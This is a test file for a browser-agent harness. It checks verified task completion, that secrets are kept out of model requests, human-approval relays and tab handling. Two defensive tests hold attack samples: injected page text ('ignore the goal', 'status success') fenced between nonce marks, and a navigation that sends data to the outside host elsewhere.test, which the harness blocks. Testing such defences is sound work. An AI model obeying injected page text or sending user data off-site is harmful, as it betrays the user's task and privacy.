import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import type { Person, Question } from "../../src/agent/job.ts";
import { modelPlanner } from "../../src/planners/model/planner.ts";
import { testBrowsers } from "../support/session-driver.ts";
import type { PageServer } from "../support/page-server.ts";
import { dataOf, job, jobKit, type JobKit } from "../support/job.ts";
import { act, complete, inOrder, scriptedModel, type Policy } from "../support/scripted-model.ts";
import { startTaskSite } from "./task-site.ts";

const SECRET = "canary-7f3Q-hunter2";
let site: PageServer;
let kit: JobKit;

beforeAll(async () => {
  site = await startTaskSite();
  kit = jobKit(testBrowsers({ confirmations: "ask" }));
  await kit.browsers.closeAll();
  const secretsFile = join(kit.home, "secrets.env");
  writeFileSync(secretsFile, `MEMBER_WORD=${SECRET}\n`, { mode: 0o600 });
  kit = { ...kit, browsers: testBrowsers({ confirmations: "ask", secretsFile }) };
});
afterAll(async () => {
  await kit.browsers.closeAll();
  await site.close();
  kit.remove();
});
beforeEach(() => void (site.ledger.length = 0));

const planner = (...models: ReturnType<typeof scriptedModel>[]) => modelPlanner({ models });
const claim = (kind: string, value: string, more: Record<string, unknown> = {}): Policy => {
  return () => complete("success", { checks: [{ kind, value, ...more }] });
};

describe("a task is done when the page shows what it did not show at the start", () => {
  test("a form is filled, sent, and believed by the site's own words", async () => {
    const model = scriptedModel(
      inOrder(
        ({ number }) => act("fill", { target: number(/textbox Your name/), value: "Robin" }),
        ({ number, request }) => {
          expect(request.text).toMatch(/options of \d+: A4 \| A5/);
          return act("select", { target: number(/combobox Size/), value: "A5" });
        },
        ({ number }) => act("click", { target: number(/button Send the form/) }),
        claim("textPresent", "noted your wish under number 4711"),
      ),
    );
    const { verdict } = await job(kit, planner(model), `${site.origin}/order`, {
      goal: "Order a notebook of size A5 for Robin",
    });
    expect(verdict).toMatchObject({
      success: true,
      verified: true,
      reason: "completed",
      kind: "run",
      evidence: [{ tier: "B", seen: expect.stringContaining("number 4711") }],
    });
    expect(verdict.sentence).toMatch(/is done\. The site confirms it/);
    expect(site.ledger.find(({ method }) => method === "POST")?.body).toBe("name=Robin&size=A5");
  });

  test("what was so at the start, what is not there, and a claim without checks are refused and told", async () => {
    const model = scriptedModel(
      inOrder(claim("textPresent", "Thanks for coming"), claim("textPresent", "number 4711"), () =>
        complete("success"),
      ),
    );
    const { verdict } = await job(kit, planner(model), `${site.origin}/order`);
    expect(verdict).toMatchObject({
      success: false,
      verified: false,
      reason: "verification_failed",
    });
    expect(model.requests[1]?.text).toMatch(/held at the start too/);
    expect(model.requests[2]?.text).toMatch(/not found: textPresent "number 4711"/);
    expect(verdict.error?.message).toMatch(/without checks/);
    expect(verdict.sentence).not.toMatch(/cancelled/);
  });

  test("an address that the model went to by itself proves nothing", async () => {
    const model = scriptedModel(
      inOrder(
        () => act("navigate", { value: "/second" }),
        claim("urlContains", "/second"),
        () => complete("failed"),
      ),
    );
    const { verdict } = await job(kit, planner(model), `${site.origin}/order`);
    expect(verdict).toMatchObject({ success: false, reason: "stuck" });
    expect(model.requests[2]?.text).toMatch(/Success was not accepted/);
  });

  test("a value counts where a fresh load still shows it: typed is not saved", async () => {
    const saved: Policy = ({ number }) =>
      complete("success", {
        checks: [{ kind: "valueEquals", value: "Kim", target: number(/textbox Display name/) }],
      });
    const type: Policy = ({ number }) =>
      act("fill", { target: number(/textbox Display name/), value: "Kim" });
    const model = scriptedModel(
      inOrder(type, saved, type, ({ number }) => act("click", { target: number(/Save/) }), saved),
    );
    const { verdict } = await job(kit, planner(model), `${site.origin}/settings`);
    expect(model.requests[2]?.text).toMatch(/not found: valueEquals "Kim"/);
    expect(verdict).toMatchObject({ success: true, verified: true, evidence: [{ tier: "C" }] });
  });
});

test("a secret is typed by its name; no request and no event holds it, though the page shows it", async () => {
  const model = scriptedModel(
    inOrder(
      ({ number }) => act("fill", { target: number(/Member word/), value: "secret:MEMBER_WORD" }),
      ({ number }) => act("click", { target: number(/button Open/) }),
      claim("textPresent", "The shelf is open"),
    ),
  );
  const { verdict, events } = await job(kit, planner(model), `${site.origin}/members`, {
    goal: "Open the shelf with secret:MEMBER_WORD",
  });
  expect(verdict).toMatchObject({ success: true, verified: true });
  expect(site.ledger.find(({ path }) => path === "/in")?.body).toContain(SECRET);
  expect(model.requests.length).toBe(3);
  for (const request of model.requests) expect(request.text).not.toContain(SECRET);
  expect(JSON.stringify(events)).not.toContain(SECRET);
});

test("a question of the model reaches the person as its words, and the answer comes back", async () => {
  const asked: Question[] = [];
  const person: Person = {
    ask: (question) => {
      asked.push(question);
      return Promise.resolve({ answer: asked.length === 1 ? "approved" : "rejected", by: "test" });
    },
  };
  const ask =
    (action: string): Policy =>
    () => ({ name: "request_human_approval", input: { action, reason: "HIDDEN-REASON" } });
  const model = scriptedModel(
    inOrder(ask("Take the blue one?"), ask("Pay for wrapping?"), () => complete("failed")),
  );
  await job(kit, planner(model), `${site.origin}/order`, { approve: "ask", person });
  expect(asked[0]?.text).toContain("In its words, not checked: “Take the blue one?”");
  expect(JSON.stringify(asked)).not.toContain("HIDDEN-REASON");
  expect(model.requests[1]?.text).toMatch(/The person said yes to your question of turn 1/);
  expect(model.requests[2]?.text).toMatch(/The person said no to your question of turn 2/);
});

test("what pages say stands between marks that no page can write", async () => {
  const model = scriptedModel(
    inOrder(
      ({ number }) => act("hover", { target: number(/Nothing/) }),
      () => complete("failed"),
    ),
  );
  await job(kit, planner(model), `${site.origin}/talks`);
  const nonces = model.requests.map(({ text }) => {
    const marks = [...text.matchAll(/<<<page-(\w+)|page-(\w+)>>>/g)];
    expect(marks).toHaveLength(2);
    expect(text.indexOf("ignore the goal")).toBeGreaterThan(marks[0]?.index ?? 0);
    expect(text.indexOf("status success")).toBeLessThan(marks[1]?.index ?? 0);
    return marks[0]?.[1];
  });
  expect(new Set(nonces).size).toBe(2);
});

test("a model is kept to the sites of its task", async () => {
  const model = scriptedModel(
    inOrder(
      () => act("navigate", { value: "https://elsewhere.test/?data=robin" }),
      () => complete("failed"),
    ),
  );
  const { events } = await job(kit, planner(model), `${site.origin}/order`);
  expect(dataOf(events, "acting")).toHaveLength(0);
  expect(model.requests[1]?.text).toMatch(/neither a site of this task nor linked/);
});

test("a new tab is followed, and the model can go back to the first", async () => {
  const model = scriptedModel(
    inOrder(
      ({ number }) => act("click", { target: number(/Open the second/) }),
      ({ request }) => {
        expect(request.text).toMatch(/tabs: 0 Tabs, \*1 Second/);
        return act("switch_tab", { value: "0" });
      },
      ({ request }) => {
        expect(request.text).toMatch(/tabs: \*0 Tabs/);
        return complete("failed");
      },
    ),
  );
  const { verdict } = await job(kit, planner(model), `${site.origin}/tabs`);
  expect(verdict.turns).toBe(3);
});
